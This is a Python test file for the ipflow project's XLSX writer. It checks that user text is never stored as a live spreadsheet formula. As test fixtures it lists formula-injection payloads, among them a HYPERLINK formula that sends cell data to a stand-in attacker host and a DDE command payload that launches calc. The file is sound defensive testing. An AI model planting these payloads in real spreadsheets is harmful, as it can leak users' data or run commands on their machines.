"""What ipflow refuses: user text never becomes a live formula in an XLSX file (OWASP)."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from ipflow.reports.tables import Table
from ipflow.reports.xlsx_writer import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_hostile_text_is_stored_as_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    table = Table(
        key="ledger",
        title=HOSTILE[0],
        columns=["当事人", *HOSTILE[1:3], "罚没款"],
        rows=[[text, text, text, Decimal("90000.50")] for text in HOSTILE],
        note=HOSTILE[3],
    )
    path = write_workbook(tmp_path / "台账.xlsx", [table], title="台账", author="ipflow")
    sheet = load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE) <= texts  # stored verbatim, not prefixed or mangled
    amounts = [c.value for c in cells if c.column == 4 and c.row > 2]
    assert amounts == [90000.5] * len(HOSTILE)
